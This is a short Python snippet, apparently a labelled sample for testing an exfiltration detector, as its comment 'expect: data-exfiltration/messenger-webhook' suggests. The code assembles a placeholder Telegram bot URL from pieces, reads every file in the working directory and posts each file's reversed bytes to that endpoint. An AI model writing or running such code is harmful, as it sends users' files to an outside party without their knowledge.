import os
import urllib.request

place = "/".join(["https:", "", "api.telegram.example", "bot-x", "sendMessage"])
for name in os.listdir("."):
    urllib.request.urlopen(place, data=open(name, "rb").read()[::-1]) # expect: data-exfiltration/messenger-webhook
